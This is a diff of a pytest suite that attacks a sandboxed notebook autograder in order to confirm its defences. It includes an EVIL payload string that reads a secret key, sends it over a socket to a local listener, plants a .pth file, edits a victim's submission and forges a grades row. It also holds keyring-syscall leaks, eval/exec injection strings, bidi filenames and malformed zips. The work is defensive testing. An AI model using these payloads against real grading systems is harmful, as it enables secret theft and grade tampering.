@@ -302,6 +302,53 @@ forged = struct.pack(">Q", len(body)) + body
 def rope_rotate(x, positions, base=10_000.0):
     os.write(to_judge, forged)  # the judge reads this as the call's result
     return np.zeros(np.shape(x))"""
+#: S1-S3 (second reading, REVIEW §8): an answer that is text, which SymPy would evaluate
+#: as Python (``sympify`` of a string is ``eval``) if the judge ever read it as an
+#: expression. Evaluated, the text would read the secrets, send them out, plant a .pth
+#: file, edit a classmate's submission and add a row to the CSV after the command
+#: returns, and then give the right answer, for full marks. It crosses as text in every
+#: form a check could meet: a string, a NumPy string, a unicode array, a list and a dict
+#: of strings, an object with ``flat`` and ``shape``.
+EVIL = ("(__import__('pathlib').Path(MARKER).write_text(open(SECRET).read()), "
+        "__import__('socket').create_connection(('127.0.0.1', 'PORT')).sendall(b'loot'), "
+        "open(PTH, 'w').write('import os'), open(VICTIM, 'a').write(' '), open(CSV, 'a').write('evil,8'), "
+        "1 / (exp(Symbol('m', positive=True)) - 1))[-1]")
+
+
+def evil_text(**places) -> str:
+    """:data:`EVIL` with the places it would reach written in (it runs where SymPy reads it)."""
+    text = EVIL
+    for name, value in places.items():
+        text = text.replace(name, str(value) if name == "PORT" else repr(str(value)))
+    return text
+S_FLAT = """class Flat:
+    def __init__(self, items):
+        self.flat, self.shape = items, (len(items),)
+"""
+S1 = "mean_distance = EVIL\nmean_expansion = np.str_(EVIL)"
+S2 = "mean_distance = np.array([EVIL])\nmean_expansion = [EVIL]"
+S3 = S_FLAT + "mean_distance = {'a': EVIL}\nmean_expansion = Flat([EVIL])"
+#: S4: a function of the submission that returns text to a check.
+S4 = """def scaled_score(m, n):
+    return EVIL
+
+def prefactor(m, n):
+    return EVIL"""
+#: K1, K2: the kernel's keyring, which no namespace separates: the first run leaves a key
+#: (any success spoils its answer), the run after it looks for the key (and spoils its
+#: answer if it finds it). A seccomp filter refuses the calls, as Docker's default does.
+KEYRING = """import ctypes, platform
+libc = ctypes.CDLL(None, use_errno=True)
+ADD_KEY, REQUEST_KEY = {"x86_64": (248, 249), "aarch64": (217, 218)}[platform.machine()]
+USER_KEYRING = -4
+"""
+K1 = KEYRING + 'found = libc.syscall(ADD_KEY, b"user", b"grading-leak", b"full marks", 10, USER_KEYRING) >= 0'
+K2 = KEYRING + 'found = libc.syscall(REQUEST_KEY, b"user", b"grading-leak", None, 0) >= 0'
+#: M1-M3: code that stopped or held the review of the whole class: 501 magics, a sum of a
+#: thousand terms (nested too deeply for a recursive walk), a cell of 1 MB.
+M1 = "\n".join(["%time x = 1"] * 501)
+M2 = "total = " + " + ".join(["1"] * 1000)
+M3 = "# " + "x" * 2**20
 #: Appended to a solution's convert cell: a found secret (or a failed limit) spoils the answer.
 SPOIL = "if found:\n    convert = convert[::-1]"
 
@@ -531,9 +578,18 @@ def test_attacks_on_chapter_3(chapters, tmp_path, capsys, monkeypatch):
                            "uses os._exit"),
         "f4-other-metadata.ipynb": (alibi.notebook([c["source"] for c in alibi.garbage()["cells"]],
                                                    assignment="03_rope"), 0, None),
+        "s4-text-result.ipynb": (rope.trimmed_solution(answers={"ex-03-scaling": _with(S4, EVIL=evil_text(
+            MARKER=marker, SECRET=secret, PORT=listener.port, PTH=site_packages / "zz_evil.pth", VICTIM=victim_a,
+            CSV=csv_path))}), full - round(rope.points["ex-03-scaling"]), None),
+        "k1-keyring.ipynb": (rope.trimmed_solution(K1, after=spoil), full, "imports ctypes"),
+        "k2-keyring.ipynb": (rope.trimmed_solution(K2, after=spoil), full, "imports ctypes"),
+        "m1-magics.ipynb": (rope.trimmed_solution(M1), full, "not Python the review can read"),
+        "m2-long-sum.ipynb": (rope.trimmed_solution(M2), full, None),
+        "m3-huge-cell.ipynb": (rope.trimmed_solution(M3), full, "characters, more than the 100,000 the review reads"),
     }
     for name, (notebook, _, _) in made.items():
         _write(subs, name, notebook)
+    bidi = _write(subs, "b1-\u202egpj.ipynb", rope.garbage())  # shows as "b1-.jpg..." where bidi is honoured
     # F: files that are not a submission of this chapter, refused before anything runs
     refused = {
         "f1-corrupt.ipynb": "not a notebook: the file is not JSON",
@@ -544,6 +600,9 @@ def test_attacks_on_chapter_3(chapters, tmp_path, capsys, monkeypatch):
         "f7-bomb.zip": "the notebook in the zip is larger than 4 MiB",
         "f9-two.zip": "the zip holds 2 notebooks",
         "a10-shadow.zip": "the zip holds files besides the notebook ('companion/__init__.py'",
+        "z1-name.zip": "not a readable zip (UnicodeDecodeError",
+        "z2-deflate.zip": "the notebook in the zip cannot be read (",
+        "z3-lzma.zip": "the notebook in the zip cannot be read (",
     }
     (subs / "f1-corrupt.ipynb").write_text("{not json")
     huge = rope.garbage()
@@ -556,13 +615,23 @@ def test_attacks_on_chapter_3(chapters, tmp_path, capsys, monkeypatch):
     _zip(subs / "f7-bomb.zip", {"03_rope.ipynb": b"{" + b" " * (64 * 2**20) + b"}"})
     _zip(subs / "f9-two.zip", {"a.ipynb": student, "b.ipynb": student})
     _zip(subs / "a10-shadow.zip", {"03_rope.ipynb": student, "companion/__init__.py": b"import otter\n"})
+    # damaged uploads: a member name flagged UTF-8 that is not, corrupt deflate and LZMA data
+    _zip(subs / "z1-name.zip", {"\u00e9.ipynb": student})
+    (subs / "z1-name.zip").write_bytes((subs / "z1-name.zip").read_bytes().replace("\u00e9".encode(), b"\xff\xfe"))
+    for name, method in (("z2-deflate.zip", zipfile.ZIP_DEFLATED), ("z3-lzma.zip", zipfile.ZIP_LZMA)):
+        with zipfile.ZipFile(subs / name, "w", method) as archive:
+            archive.writestr("03_rope.ipynb", student)
+        data = bytearray((subs / name).read_bytes())
+        data[200:260] = bytes(range(60))  # inside the compressed notebook
+        (subs / name).write_bytes(bytes(data))
     # an exported zip (otter's log beside the notebook) whose member's name climbs out of the folder
     _zip(subs / "f8-export.zip", {"../../../../tmp/f8/03_rope.ipynb": json.dumps(rope.trimmed_solution()).encode(),
                                    ".OTTER_LOG": b"\x80\x04not opened", "__zip_filename__": b"f8-export.zip"})
     first = ["solution.ipynb", "d2-autograder.ipynb", "garbage.ipynb", "d3-others.ipynb", "victim-a.ipynb",
-             "victim-b.ipynb", "d10-takeover.ipynb", "victim-d10.ipynb"]  # victims right after their attackers
+             "victim-b.ipynb", "d10-takeover.ipynb", "victim-d10.ipynb", "k1-keyring.ipynb", "m1-magics.ipynb",
+             "m2-long-sum.ipynb", "k2-keyring.ipynb"]  # victims after their attackers (k2 once k1 has ended)
     order = first + [name for name in made if name not in first] + list(refused) + ["f8-export.zip"]
-    files = [subs / name for name in order]
+    files = [subs / name for name in order] + [bidi]
     before = {"autograder": _sha(rope.autograder), "site-packages": sorted(os.listdir(site_packages)),
               "victims": [_sha(victim_a), _sha(victim_b)]}
 
@@ -609,23 +678,78 @@ def test_attacks_on_chapter_3(chapters, tmp_path, capsys, monkeypatch):
     assert processes_with("86399.25") == []
     # D8: printed output and messages are bounded, and no terminal escape gets through
     assert "\x1b" not in out and max(len(line) for line in out.splitlines()) <= 320
-    assert "spoofed" in blocks["d8-flood.ipynb"] and "FakeaabError" not in blocks["d8-flood.ipynb"]
+    assert "FakeaabError" not in blocks["d8-flood.ipynb"]
+    # S4: a function's text result is a wrong answer, never read as an expression
+    assert "it is text. Build it with SymPy" in blocks["s4-text-result.ipynb"]
+    assert not (site_packages / "zz_evil.pth").exists()
+    # M2: a sum of a thousand terms is read or reported, never a crash of the review
+    assert ("nested too deeply" in blocks["m2-long-sum.ipynb"] or "not Python the review can read"
+            in blocks["m2-long-sum.ipynb"] or "review" not in blocks["m2-long-sum.ipynb"])
+    # B1: a file name's bidirectional override is written as its escape, on the terminal and in the CSV
+    assert "b1-\\u202egpj.ipynb: 0 / " in out and "\u202e" not in out
+    assert "\u202e" not in csv_path.read_text() and "b1-\\u202egpj.ipynb" in csv_path.read_text()
+    # the judges' server and every judge ended with the command
+    assert processes_with("grading.judge") == [] and processes_with("forkserver") == []
     assert blocks["d8-flood.ipynb"].count("\n") < 40
 
 
 def test_attacks_on_chapter_4(chapters, tmp_path, capsys):
     """Chapter 4: the checks patched (A2), otter's runner patched (A5), an answer equal
-    to everything (A7), each on the garbage notebook; the solution scores 8 / 8."""
+    to everything (A7), each on the garbage notebook; the solution scores 8 / 8. And
+    S1-S3: the symbolic answers as text in every form a check could meet, text that read
+    by SymPy would steal, send, plant, edit and rewrite, and give the right answer:
+    ex-04-mean scores 0 and nothing happens."""
     alibi = chapters["04_alibi"]
+    secret, marker, pth = tmp_path / "id_ed25519", tmp_path / "marker", tmp_path / "site" / "zz_hook.pth"
+    secret.write_text("SECRET-KEY-4321")
+    pth.parent.mkdir()
+    listener, csv_path = Listener(), tmp_path / "grades.csv"
+    victim = tmp_path / "solution.ipynb"
+    evil = evil_text(MARKER=marker, SECRET=secret, PORT=listener.port, PTH=pth, VICTIM=victim, CSV=csv_path)
+    strings = {name: (alibi.trimmed_solution(after={"ex-04-mean": _with(code, EVIL=evil)}), 5)
+               for name, code in (("s1-str.ipynb", S1), ("s2-array-list.ipynb", S2), ("s3-dict-flat.ipynb", S3))}
     made = {"solution.ipynb": (alibi.solution, 8), "garbage.ipynb": (alibi.garbage(), 0),
             "a2-checks.ipynb": (alibi.garbage(A2), 0), "a5-otter.ipynb": (alibi.garbage(A5), 0),
             "a7-equal.ipynb": (alibi.garbage(answers={"ex-04-twelve": "spans12 = np.zeros(12)\n" + A7.split(
-                "convert = Same()")[0] + "heads_by_span = Same()"}), 0)}
+                "convert = Same()")[0] + "heads_by_span = Same()"}), 0), **strings}
     files = [_write(tmp_path, name, nb) for name, (nb, _) in made.items()]
-    status, out = _grade(capsys, alibi.autograder, files, tmp_path / "grades.csv")
+    before = _sha(victim)
+    status, out = _grade(capsys, alibi.autograder, files, csv_path)
+    time.sleep(1)
     assert status == 0, out
     for name, (_, total) in made.items():
         assert f"{name}: {total} / 8" in out, out
+    blocks = _blocks(out, list(made))
+    for name in strings:
+        assert "ex-04-mean                       0 / 3" in blocks[name], blocks[name]
+        assert "should be a SymPy expression" in blocks[name], blocks[name]
+    assert "it is text. Build it with SymPy" in blocks["s1-str.ipynb"]
+    assert not marker.exists() and not pth.exists() and listener.received == [] and _sha(victim) == before
+    assert "evil" not in csv_path.read_text() and "SECRET-KEY" not in out
+
+
+def test_a_sandbox_that_cannot_import_the_package_is_an_error_not_zeros(chapters, tmp_path, capsys, monkeypatch):
+    """REVIEW §8.1: when the grading environment is broken (here: the sandbox does not
+    show companion, so the chapter's given import cell fails), correct work must not
+    score zeros: the submission is an error row that names the failed cell."""
+    from grading import sandbox
+
+    alibi = chapters["04_alibi"]
+    folder = str(sandbox.package_folder("companion"))
+    real = sandbox.bwrap_command
+
+    def without_companion(*args, **kwargs):
+        command = real(*args, **kwargs)
+        at = next(i for i in range(len(command) - 2) if command[i:i + 3] == ["--ro-bind", folder, folder])
+        return command[:at] + command[at + 3:]
+
+    monkeypatch.setattr(sandbox, "bwrap_command", without_companion)
+    solution = _write(tmp_path, "solution.ipynb", alibi.solution)
+    status, out = _grade(capsys, alibi.autograder, [solution], tmp_path / "grades.csv")
+    assert status == 1, out
+    assert "solution.ipynb: could not grade: not graded: a cell the student did not write failed (code cell" in out
+    assert "ModuleNotFoundError" in out or "ImportError" in out, out
+    assert "0 / 8" not in out
 
 
 def test_grading_stops_when_the_autograder_changes(chapters, tmp_path, monkeypatch, capsys):
@@ -668,9 +792,11 @@ def test_judges_start_with_every_module_of_companion_imported():
     NumPy, SymPy and torch with them), so that no judge imports them again for each
     submission: ``import companion`` alone loads none of its modules."""
     import companion
+    from grading import judge
 
-    preload = assignments.grading.JUDGE_PRELOAD
-    assert {f"companion.{name}" for name in companion.__all__} <= set(preload) and "grading.judge" in preload
+    preload = judge.PRELOAD + judge.modules_to_import_first()
+    assert {f"companion.{name}" for name in companion.__all__} <= set(preload) and "grading.review" in preload
+    assert {"companion.lab.evals", "companion.lab.usage", "companion.figures"} <= set(preload)
     script = ("import importlib, sys\n"
               f"for name in {preload!r}:\n    importlib.import_module(name)\n"
               "print(all(m in sys.modules for m in ('torch', 'sympy', 'numpy')))")
@@ -713,16 +839,60 @@ def test_answers_cross_as_the_same_values():
     assert back.n_out == result.n_out and type(back).__name__ == type(result).__name__
 
 
-@pytest.mark.parametrize("text", [
-    "__import__('os').system('touch /tmp/x')", "sin('__import__(\"os\")')", "Symbol('x').__class__",
-    "Function('f')('exec(1)')", "Integer('12')", "lambda: 1", "Symbol('x', evaluate=True)",
-    "Add(*[Integer(1)])", "Rational(1, 2) + 1", "S('x')", "sympify('x')", "Float('1e5', precision=10**9)",
-    "[x for x in ()]", "Matrix([[Symbol('x')]]).T"])
-def test_sympy_text_builds_sympy_and_nothing_else(text):
-    """The reader of SymPy text refuses anything but SymPy's constructors, numbers and
-    names: no attribute, no operator, no string SymPy would parse (parsing is eval)."""
+@pytest.mark.parametrize("node", [
+    {"symbol": "__import__('os').system('touch /tmp/x')"}, {"symbol": "x)(y"}, {"symbol": "a\u202eb"},
+    {"applied": "exec(1)", "args": []}, {"function": "f; import os"}, {"head": "sympify", "args": [{"str": "x"}]},
+    {"head": "parse_expr", "args": []}, {"head": "Symbol", "args": [{"str": "x"}]}, {"head": "__class__", "args": []},
+    {"integer": "12x"}, {"integer": 12}, {"rational": ["1", "0x2"]}, {"float": "1e5", "precision": 10**9},
+    {"float": "__import__"}, {"constant": "__builtins__"}, {"class": "print"}, {"matrix": [2, 2], "args": []},
+    {"symbol": "x", "assumptions": {"evaluate": True}}, {"symbol": "x", "assumptions": {"positive": "yes"}},
+    {"dummy": "d", "index": -1}, {"str": "x'; import os"}, {"t": "sympy"}, "Symbol('x')"])
+def test_sympy_data_builds_sympy_and_nothing_else(node):
+    """A SymPy tree is rebuilt by calling SymPy's exported classes on SymPy objects:
+    a name that is not a plain name, a class SymPy does not export, a number that is not
+    digits, an unknown keyword, or text in place of a tree is refused (nothing is parsed)."""
     with pytest.raises(wire.WireError):
-        wire.read_sympy(text)
+        wire.from_sympy_node(node)
+
+
+def test_the_judge_reads_no_text_as_code(tmp_path):
+    """While the judge checks, text never becomes code by any route SymPy offers (an
+    operator with a dict of strings, a matrix of strings, N of a string), nor by Python's
+    own (eval, exec, compile, ast.parse, pickle), and no process, connection or written
+    file is allowed; SymPy's and NumPy's own work (simplify, series, polynomial
+    arithmetic, reading .npy files, named tuples) goes on. Each route would create a
+    file if it ran."""
+    import collections
+    import pickle
+    import sympy as sp
+    import numpy as np
+    from grading import judge
+
+    marker = tmp_path / "ran"
+    payload = f"open({str(marker)!r}, 'w') or 1"
+    x = sp.Symbol("x")
+    routes = {"dict - x": lambda: {"a": payload} - x, "Matrix": lambda: sp.Matrix([payload]),
+              "N": lambda: sp.N(payload), "sympify": lambda: sp.sympify(payload), "eval": lambda: eval(payload),
+              "exec": lambda: exec(payload), "compile": lambda: compile(payload, "<answer>", "eval"),
+              "ast.parse": lambda: ast.parse(payload),
+              "pickle": lambda: pickle.loads(pickle.dumps(collections.OrderedDict())),
+              "process": lambda: subprocess.run(["true"]), "connection": lambda: socket.create_connection(("127.0.0.1", 9)),
+              "write": lambda: open(marker, "w")}
+    with judge.refusing():
+        for name, route in routes.items():
+            with pytest.raises(judge.Refused):
+                route()
+            assert not marker.exists(), name
+        assert sp.simplify(sp.sin(x) ** 2 + sp.cos(x) ** 2) == 1
+        assert sp.cancel((x ** 2 - 1) / (x - 1)) == x + 1 and sp.series(sp.exp(x), x, 0, 2).removeO() == 1 + x
+        buffer = io.BytesIO()
+        np.save(buffer, np.arange(3))
+        buffer.seek(0)
+        assert list(np.load(buffer)) == [0, 1, 2]
+        assert collections.namedtuple("Pair", "a b")(1, 2).b == 2
+    assert "reading text as code" in judge.refusals
+    with judge.trusting():
+        assert eval("1 + 1") == 2
 
 
 def test_arrays_are_never_unpickled(tmp_path):
@@ -772,8 +942,9 @@ def test_results_must_have_the_autograders_questions_and_points(chapters, tmp_pa
     answer = {"questions": {"ex-03-rotate": {"score": 3.0, "possible": 3.0, "output": ""}},
               "events": [], "run_cpu_seconds": 0.0, "judge_cpu_seconds": 0.0}
     monkeypatch.setattr(assignments.grading, "run_and_judge", lambda *args: answer)
+    monkeypatch.setattr(assignments.grading, "review_submission", lambda *args: [])
     with pytest.raises(assignments.GradingError, match="not the autograder's"):
-        assignments.grading.grade(loaded, notebook)
+        assignments.grading.grade(loaded, notebook, judges=None)
 
 
 def test_an_environment_under_tmp_is_mounted_over_the_scratch_folder(tmp_path, monkeypatch):
@@ -787,7 +958,7 @@ def test_an_environment_under_tmp_is_mounted_over_the_scratch_folder(tmp_path, m
     venv = Path("/tmp/some-clone/.venv")
     monkeypatch.setattr(sandbox.sys, "prefix", str(venv))
     passwd = tmp_path / "passwd"
-    command = sandbox.bwrap_command(tmp_path / "job.json", passwd, sandbox.Limits())
+    command = sandbox.bwrap_command(tmp_path / "job.json", passwd, sandbox.Limits(), seccomp_fd=99)
     scratch = command.index("--tmpfs")
     assert command[scratch + 1] == "/tmp"
     binds = [i for i, arg in enumerate(command) if arg == "--ro-bind" and command[i + 2].startswith("/tmp/")
